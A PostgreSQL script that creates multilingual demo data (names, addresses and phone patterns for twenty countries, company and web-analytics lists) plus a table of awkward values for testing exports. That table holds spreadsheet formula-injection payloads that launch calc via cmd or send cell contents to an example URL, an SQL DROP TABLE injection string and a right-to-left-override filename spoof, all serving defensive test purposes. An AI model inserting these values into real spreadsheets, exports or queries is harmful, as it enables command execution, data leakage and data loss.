-- What the sample data is made of: names and places of twenty countries, companies, pages, and a list of values that
-- break careless exports. Addresses come from the ranges set aside for documentation and benchmarks (RFC 5737, RFC 2544,
-- RFC 3849), domains from those set aside for examples (RFC 2606).

CREATE SCHEMA demo;

CREATE TABLE demo.country (
  slot_from int, slot_to int,   -- of 100
  code text, language text, timezone text, dial text,
  first_names text[], last_names text[],
  places text[],                -- zip code|city|region
  streets text[]
);

INSERT INTO demo.country VALUES
(0, 17, 'FI', 'fi-FI', 'Europe/Helsinki', '+358 40 #######',
 '{Aino,Väinö,Eero,Päivi,Jyrki,Riikka,Åke,Sirkka-Liisa,Juha,Mäkki,Onni,Helmi,Yrjö,Kaisa}',
 '{Mäkinen,Nieminen,Hämäläinen,Järvinen,Ylönen,Åkerlund,Öhman,Virtanen,Korhonen,Pöyhönen,Särkkä,von Wright}',
 '{00100|Helsinki|Uusimaa,00530|Helsinki|Uusimaa,20100|Turku|Varsinais-Suomi,33100|Tampere|Pirkanmaa,40100|Jyväskylä|Keski-Suomi,90100|Oulu|Pohjois-Pohjanmaa,22100|Mariehamn|Åland,60100|Seinäjoki|Etelä-Pohjanmaa}',
 '{Hämeentie,Mannerheimintie,Itäinen Puistotie,Kyläkirkontie,Äyräpääntie,Yliopistonkatu}'),
(17, 32, 'DE', 'de-DE', 'Europe/Berlin', '+49 30 23125 ###',
 '{Jürgen,Käthe,Björn,Anneliese,Sören,Günther,Lea,Jan,Mia,Götz,Änne,Karl-Heinz,Rüdiger,Bärbel}',
 '{Müller,Schröder,Weiß,Großmann,Köhler,Jäger,Schäfer,Groß,Schütz,Freiherr von und zu Guttenstein,Krüger,Böhm}',
 '{01067|Dresden|Sachsen,04109|Leipzig|Sachsen,10115|Berlin|Berlin,20095|Hamburg|Hamburg,50667|Köln|Nordrhein-Westfalen,80331|München|Bayern,90402|Nürnberg|Bayern,99084|Erfurt|Thüringen}',
 '{Große Straße,Königsallee,Straße des 17. Juni,Am Mühlenweg,Schloßstraße,Löwengasse}'),
(32, 42, 'SE', 'sv-SE', 'Europe/Stockholm', '+46 8 465 004 ##',
 '{Åsa,Göran,Märta,Björn,Örjan,Linnéa,Håkan,Sofia,Torbjörn,Frida}',
 '{Åström,Sjöberg,Björklund,Öberg,Hägg,Löfgren,Ström,Nyström,af Klercker}',
 '{111 29|Stockholm|Stockholms län,211 20|Malmö|Skåne län,411 03|Göteborg|Västra Götalands län,753 10|Uppsala|Uppsala län,972 31|Luleå|Norrbottens län}',
 '{Sveavägen,Västra Långgatan,Drottninggatan,Östermalmstorg}'),
(42, 50, 'FR', 'fr-FR', 'Europe/Paris', '+33 1 99 00 ####',
 '{Zoé,François,Anaïs,Théo,Maëlle,Jérôme,Élodie,Loïc,Gaëlle,Noël}',
 '{Lefèvre,Bézier,d''Ormesson,L''Hôpital,Çelik-Dubois,Garçon,Mérimée,N''Diaye}',
 '{01000|Bourg-en-Bresse|Auvergne-Rhône-Alpes,06000|Nice|Provence-Alpes-Côte d''Azur,69001|Lyon|Auvergne-Rhône-Alpes,75011|Paris|Île-de-France,44000|Nantes|Pays de la Loire}',
 '{rue de l''Église,boulevard Saint-Germain,place de la République,impasse du Chêne}'),
(50, 58, 'US', 'en-US', 'America/New_York', '+1 202-555-01##',
 '{Sean,Mary Jo,"Robert \"Bob\"",Chloé,Xiomara,D''Andre,Rosa,José,Tiffany,Hunter}',
 '{O''Neil,"Smith, Jr.",Van Der Berg,Null,"Johnson III",Peña,MacDonald,Test}',
 '{02108|Boston|Massachusetts,00501|Holtsville|New York,07030|Hoboken|New Jersey,94103|San Francisco|California,73301|Austin|Texas}',
 '{Main St.,5th Ave.,"Market St., Suite",Broadway}'),
(58, 64, 'GB', 'en-GB', 'Europe/London', '+44 20 7946 0###',
 '{Siân,Nigel,Saoirse,Rhys,Isla,Zoë,Alistair,Aoife}',
 '{"Smith-Jones",O''Connor,Llywelyn,St. John,Featherstonehaugh,Brontë}',
 '{SW1A 1AA|London|England,EH1 1YZ|Edinburgh|Scotland,CF10 1EP|Cardiff|Wales,BT1 5GS|Belfast|Northern Ireland}',
 '{Baker Street,King''s Road,The Shambles}'),
(64, 69, 'PL', 'pl-PL', 'Europe/Warsaw', '+48 22 #######',
 '{Łukasz,Małgorzata,Żaneta,Paweł,Świętosława,Zbigniew}',
 '{Wójcik,Dąbrowski,Łęcka,Źrebiec,Gżegżółka,Brzęczyszczykiewicz}',
 '{00-001|Warszawa|Mazowieckie,30-001|Kraków|Małopolskie,90-001|Łódź|Łódzkie}',
 '{ul. Świętokrzyska,al. Jerozolimskie,ul. Żółkiewskiego}'),
(69, 73, 'NL', 'nl-NL', 'Europe/Amsterdam', '+31 20 #######',
 '{Daniël,Fleur,Sjoerd,Anouk,Thijs}', '{van ''t Hoff,de Vries,IJzerman,ten Böhmer,van den Heuvel}',
 '{1012 JS|Amsterdam|Noord-Holland,3511 AB|Utrecht|Utrecht,5211 AA|''s-Hertogenbosch|Noord-Brabant}',
 '{Keizersgracht,''t Zand,Oudegracht}'),
(73, 77, 'IL', 'he-IL', 'Asia/Jerusalem', '+972 3-#######',
 '{אברהם,נועה,דוד,שירה,יוסף,תמר}', '{כהן,לוי,בן־דוד,מזרחי,"צה\"ל"}',
 '{6100001|תל אביב-יפו|תל אביב,9100000|ירושלים|ירושלים,3100001|חיפה|חיפה}', '{רחוב דיזנגוף,שדרות רוטשילד}'),
(77, 81, 'SA', 'ar-SA', 'Asia/Riyadh', '+966 11 #######',
 '{محمد,فاطمة,عبد الرحمن,نورة,خالد,مريم}', '{الأحمد,القحطاني,بن سلمان,العتيبي,الشَّمَّري}',
 '{11564|الرياض|منطقة الرياض,21442|جدة|منطقة مكة المكرمة}', '{طريق الملك فهد,شارع التحلية}'),
(81, 84, 'JP', 'ja-JP', 'Asia/Tokyo', '+81 3-#######',
 '{太郎,花子,さくら,健一,ユウキ}', '{山田,佐藤,髙橋,齋藤,渡邉}',
 '{060-0001|札幌市|北海道,100-0001|東京都千代田区|東京都,530-0001|大阪市|大阪府}', '{銀座,丸の内,中央}'),
(84, 87, 'UA', 'uk-UA', 'Europe/Kyiv', '+380 44 #######',
 '{Оксана,Іван,Ґалаґан,Мар''яна,Юрій}', '{Шевченко,Дем''яненко,Їжакевич,Щербицький}',
 '{01001|Київ|Київ,79000|Львів|Львівська область,65000|Одеса|Одеська область}', '{вул. Хрещатик,пр. Свободи}'),
(87, 90, 'GR', 'el-GR', 'Europe/Athens', '+30 21 #######',
 '{Ελένη,Γιώργος,Αθηνά,Οδυσσέας}', '{Παπαδόπουλος,Ιωάννου,Καζαντζάκης,Ξένος}',
 '{105 57|Αθήνα|Αττική,546 24|Θεσσαλονίκη|Κεντρική Μακεδονία}', '{Οδός Ερμού,Λεωφόρος Αλεξάνδρας}'),
(90, 92, 'IN', 'hi-IN', 'Asia/Kolkata', '+91 11 #######',
 '{प्रिया,राहुल,लक्ष्मी,अर्जुन}', '{शर्मा,पटेल,श्रीवास्तव}', '{110001|नई दिल्ली|दिल्ली,400001|मुंबई|महाराष्ट्र}', '{राजपथ,लिंक रोड}'),
(92, 94, 'KR', 'ko-KR', 'Asia/Seoul', '+82 2-#######',
 '{지훈,서연,민준,하늘}', '{김,이,박,황보}', '{03000|서울특별시|서울특별시,06000|서울특별시 강남구|서울특별시}', '{세종대로,테헤란로}'),
(94, 96, 'TR', 'tr-TR', 'Europe/Istanbul', '+90 212 #######',
 '{İpek,Çağrı,Işıl,Gülşen}', '{Yılmaz,Öztürk,Şahin,Iğdır}', '{01010|Adana|Adana,34000|İstanbul|İstanbul}', '{İstiklâl Caddesi,Bağdat Caddesi}'),
(96, 97, 'BR', 'pt-BR', 'America/Sao_Paulo', '+55 11 #######',
 '{João,Conceição,Luíza}', '{Gonçalves,Araújo,de Assis}', '{01310-100|São Paulo|São Paulo,20040-002|Rio de Janeiro|Rio de Janeiro}', '{Avenida Paulista,Praça XV}'),
(97, 98, 'IS', 'is-IS', 'Atlantic/Reykjavik', '+354 #######',
 '{Þórdís,Ævar,Guðrún}', '{Jónsdóttir,Þorsteinsson,Æsudóttir}', '{101|Reykjavík|Höfuðborgarsvæðið}', '{Laugavegur,Þingholtsstræti}'),
(98, 99, 'TH', 'th-TH', 'Asia/Bangkok', '+66 2 #######',
 '{สมชาย,กัลยา}', '{วงศ์สวัสดิ์,ศรีสุข}', '{10200|กรุงเทพมหานคร|กรุงเทพมหานคร}', '{ถนนสุขุมวิท}');

-- Vietnamese as some systems send it: every accent a combining character of its own (NFD).
INSERT INTO demo.country
SELECT 99, 100, 'VN', 'vi-VN', 'Asia/Ho_Chi_Minh', '+84 24 #######',
       ARRAY[normalize('Nguyệt', NFD), normalize('Đức', NFD)], ARRAY[normalize('Nguyễn', NFD), normalize('Trần', NFD)],
       ARRAY[normalize('100000|Hà Nội|Hà Nội', NFD)], ARRAY[normalize('Phố Huế', NFD)];

CREATE TABLE demo.awkward (kind text, value text, n int GENERATED ALWAYS AS IDENTITY);

INSERT INTO demo.awkward (kind, value) VALUES
('name', ''), ('name', '   '), ('name', 'null'), ('name', 'NULL'), ('name', 'N/A'), ('name', 'TRUE'),
('name', 'Zoë 🦊'), ('name', '👩‍👩‍👧‍👦 Family'), ('name', '🇫🇮 Suomi'), ('name', '𝓕𝓪𝓷𝓬𝔂'), ('name', 'ﬃ ligature'),
('name', E'Z\u0351\u036B\u0343\u036A\u0302a\u0308\u035El\u0334\u031Bg\u0322o\u0327'),
('name', E'\u202Egnp.exe'), ('name', E'soft\u00ADhyphen'), ('name', E'zero\u200Bwidth'), ('name', E'\uFEFFbom'),
('name', '=1+2'), ('name', '-Dash'), ('name', '+Plus'), ('name', '@handle'), ('name', '＝full-width'),
('name', E'tab\there'), ('name', '"quoted"'), ('name', 'back\slash'), ('name', ' padded '), ('name', '_x000D_'),
('company', '=HYPERLINK("http://example.com/?leak="&A1,"Click me")'), ('company', '+cmd|'' /C calc''!A0'),
('company', '@SUM(1+1)*cmd|'' /C calc''!A0'), ('company', '-2+3+cmd|'' /C calc''!A0'), ('company', '＝SUM(A1:A9)'),
('company', E'\t=tabbed formula'), ('company', E'\r=carriage return'),
('company', 'Müller "Söhne" & Co. KG'), ('company', 'Smith, Jones; Partners, LLC'), ('company', E'Two lines\nLtd'),
('company', E'Windows\r\nline break GmbH'), ('company', 'Comma,'), ('company', ','), ('company', '"'), ('company', '""'),
('company', ';'), ('company', ''), ('company', '\N'), ('company', '\.'), ('company', 'NULL'), ('company', '0'),
('company', '007'), ('company', '1e5'), ('company', '1.000,50'), ('company', '2026-01-02'), ('company', '1/2'),
('company', '12345678901234567890'), ('company', '<b>bold</b> &amp; <!-- -->'), ('company', ']]>'),
('company', 'Robert''); DROP TABLE lead;--'), ('company', E'bell \u0007 and \u0001'), ('company', E'line\u2028separator'),
('company', 'שלום עולם בע"מ (2026)'), ('company', 'شركة النور، ذ.م.م'), ('company', '株式会社「例」'), ('company', '🚀 Rocket & Söhne ☄️'),
('phone', '+6834002'), ('phone', '+999123456789012'), ('phone', '+12025550100'),
('email', '"odd, but valid"@example.org'), ('email', 'UPPER@EXAMPLE.COM'),
('email', 'postmaster@bücher.example'), ('email', '用户@例子.example'), ('email', 'a+tag@example.net'), ('email', '+plus@example.com'),
('message', 'Call me, please; "soon"'), ('message', E'First line\nSecond line\r\nThird line'), ('message', 'Tarjous 12 %, kiitos! 😀'),
('message', 'שלום, אשמח לקבל הצעת מחיר'), ('message', '価格を教えてください。'), ('message', '=SUM(A1:A3)'), ('message', ''),
('message', 'Nous sommes « intéressés » par l’offre'), ('message', E'C:\\new\\table'), ('message', '{"not": "an object"}');

CREATE TABLE demo.list (name text PRIMARY KEY, items text[]);

INSERT INTO demo.list VALUES
('company', '{Nordlicht,Aurora,Kivi,Blåbär,Fjord,Delta,Brücke,Sähkö,Acme,Contoso,Vihreä,Sonne,Lumière,Polar,Baltic,Hafen,Metsä,Quartz,Pixel,Granit}'),
('branch', '{Logistics,Software,Elektronik,Consulting,Maschinenbau,Foods,Energia,Rakennus,Media,Pharma,Design,Systems,Capital,Möbel,Robotics}'),
('legal', '{Oy,Oyj,GmbH,"GmbH & Co. KG",AG,AB,Ltd,"Ltd.",SARL,"S.A.",B.V.,Inc.,"Inc., a Delaware company",sp. z o.o.}'),
('industry', '{Software,Logistics,Retail,Manufacturing,Health care,Construction,Energy,Education,"Food & beverage","Banking, insurance",Media,Public sector}'),
('nace', '{62.01,52.29,47.11,28.99,86.10,41.20,35.11,85.59,10.89,64.19,58.14,84.11}'),
('title', '{CEO,CTO,"Head of Sales, EMEA",Geschäftsführer,Myyntijohtaja,"VP \"Growth\"",Purchasing,Développeuse,Controller,Verkställande direktör}'),
('bot', '{Welcome bot,Pricing bot,"Demo, please!",Chat for careers,Kampanja 2026,Landing page bot,"Support \"24/7\"",Exit intent,Event sign-up,Newsletter}'),
('bot_type', '{chat,form,landing page,popup,chat,form,chat,popup,form,form}'),
('bot_category', '{sales,sales,sales,recruiting,marketing,marketing,support,marketing,events,marketing}'),
('tag', '{newsletter,hot,customer,partner,"trade show","Q1, 2026",VIP,"a \"quoted\" tag",å-ä-ö,do-not-call,🔥,import}'),
('source', '{google,(direct),linkedin,newsletter,bing,partner,facebook,event}'),
('medium', '{organic,none,social,email,organic,referral,cpc,offline}'),
('campaign', '{spring-2026,brand,kesä25,"black friday; week 47",retargeting,launch}'),
('keyword', '{chatbot,"lead generation","b2b website, visitors",liidit,"kunden gewinnen",besökare}'),
('browser', '{Chrome,Firefox,Safari,Edge,Samsung Internet}'),
('os', '{Windows 11,macOS 14,Android 14,iOS 18,Ubuntu 24.04}'),
('device', '{desktop,desktop,mobile,mobile,tablet}'),
('page', '{/,/pricing,/product,/product/chat?lang=fi&x=1,/blog/5-tips,/blog/%C3%BCberblick,/contact,/demo,/careers,/fi/hinnasto,/customers,/docs/#install}'),
('page_title', '{Home,Pricing,Product,"Product: Chat, Bots & More","5 tips for \"better\" leads",Überblick – was ist neu?,Contact us,Book a demo,Careers,Hinnasto,Customers,Docs | Install}'),
('status', '{new,contacted,customer,lost,partner}'),
('quality', '{A,B,C,D}');

INSERT INTO demo.list SELECT 'odd ' || kind, array_agg(value ORDER BY n) FROM demo.awkward GROUP BY kind;

-- IMMUTABLE so that the planner puts the list itself into the query.
CREATE FUNCTION demo.items(list_name text) RETURNS text[]
LANGUAGE sql IMMUTABLE AS $$ SELECT items FROM demo.list WHERE name = list_name $$;

-- A number in 0 … sides-1 for row i, the same in every run; `salt` tells apart what is drawn for one row.
CREATE FUNCTION demo.dice(i bigint, salt int, sides int) RETURNS int
LANGUAGE sql IMMUTABLE AS $$ SELECT ((hashint8extended(i, salt) & 9223372036854775807) % sides)::int $$;

CREATE FUNCTION demo.pick(items text[], i bigint, salt int) RETURNS text
LANGUAGE sql IMMUTABLE AS $$ SELECT items[1 + ((hashint8extended(i, salt) & 9223372036854775807) % cardinality(items))::int] $$;

-- A version 4 UUID (RFC 9562, 5.4) in form; its bits come from the name.
CREATE FUNCTION demo.id(name text, i bigint) RETURNS uuid
LANGUAGE sql IMMUTABLE AS $$ SELECT overlay(overlay(md5(name || i) PLACING '4' FROM 13) PLACING 'a' FROM 17)::uuid $$;

-- Mostly IPv4; some IPv6, some IPv4 inside IPv6, some unknown.
CREATE FUNCTION demo.address(i bigint) RETURNS inet
LANGUAGE sql IMMUTABLE AS $$
  SELECT CASE
    WHEN demo.dice(i, 901, 100) < 4 THEN NULL
    WHEN demo.dice(i, 901, 100) < 70 THEN '198.18.0.0'::inet + demo.dice(i, 902, 131072)
    WHEN demo.dice(i, 901, 100) < 72 THEN '::ffff:203.0.113.0'::inet + demo.dice(i, 902, 256)
    ELSE ('2001:db8:' || to_hex(demo.dice(i, 902, 65536)) || ':' || to_hex(demo.dice(i, 903, 65536)) || '::'
          || to_hex(demo.dice(i, 904, 65536)))::inet
  END
$$;

-- A telephone number as E.164 has it: each # at the end of the pattern becomes a digit, what parts the digits goes.
CREATE FUNCTION demo.phone(pattern text, i bigint) RETURNS text
LANGUAGE sql IMMUTABLE AS $$
  SELECT regexp_replace(rtrim(pattern, '#'), '[^+0-9]', '', 'g')
         || right(lpad(demo.dice(i, 905, 10000000)::text, 7, '0'), length(pattern) - length(rtrim(pattern, '#')))
$$;

-- The part of an address before the @, in ASCII.
CREATE FUNCTION demo.mailbox(first_name text, last_name text, i bigint) RETURNS text
LANGUAGE sql IMMUTABLE AS $$
  SELECT COALESCE(
    NULLIF(trim(BOTH '.' FROM regexp_replace(
      lower(translate(first_name || '.' || last_name, 'ÄÅÖÆÉİÇŁŚŻäåöæüéèëïíîôçñżźśłóąęćńğış', 'aaoaeiclszaaoaueeeiiiocnzzsloaecngis')),
      '[^a-z.]', '', 'g')), ''), 'user') || i % 97
$$;
